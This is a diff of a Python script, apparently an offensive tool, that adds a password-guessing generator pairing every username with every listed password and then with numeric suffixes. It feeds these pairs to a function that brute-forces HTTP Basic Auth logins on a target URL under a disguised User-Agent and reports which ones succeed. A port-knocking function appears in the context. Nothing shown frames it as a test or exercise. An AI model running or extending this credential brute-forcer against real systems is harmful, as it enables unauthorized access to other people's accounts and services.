@@ -130,20 +130,27 @@ def knock(address, *ports):
 				print(port, "silent", flush=True)
 
 
+def tries(names):
+	"""As those do who guess: every name with every word, then the words with numbers behind them."""
+	for number in range(100):
+		for name in names:
+			for password in PASSWORDS:
+				yield name, password + (str(number) if number else "")
+
+
 def guess(url, *names):
 	begun = time.monotonic()
-	for name in names:
-		for password in PASSWORDS:
-			ask = urllib.request.Request(url, headers={"User-Agent": "Mozilla/5.0 (compatible)"})
-			ask.add_header("Authorization", "Basic " + base64.b64encode(("%s:%s" % (name, password)).encode()).decode())
-			try:
-				urllib.request.urlopen(ask, timeout=1.5).read()
-				print("%.3f" % (time.monotonic() - begun), name, password, "in", flush=True)
-			except urllib.error.HTTPError as e:
-				print("%.3f" % (time.monotonic() - begun), name, password, e.code, flush=True)
-			except OSError:
-				print("%.3f" % (time.monotonic() - begun), name, password, "silent", flush=True)
-				return
+	for name, password in tries(names):
+		ask = urllib.request.Request(url, headers={"User-Agent": "Mozilla/5.0 (compatible)"})
+		ask.add_header("Authorization", "Basic " + base64.b64encode(("%s:%s" % (name, password)).encode()).decode())
+		try:
+			urllib.request.urlopen(ask, timeout=1.5).read()
+			print("%.3f" % (time.monotonic() - begun), name, password, "in", flush=True)
+		except urllib.error.HTTPError as e:
+			print("%.3f" % (time.monotonic() - begun), name, password, e.code, flush=True)
+		except OSError:
+			print("%.3f" % (time.monotonic() - begun), name, password, "silent", flush=True)
+			return
 
 
 if __name__ == "__main__":
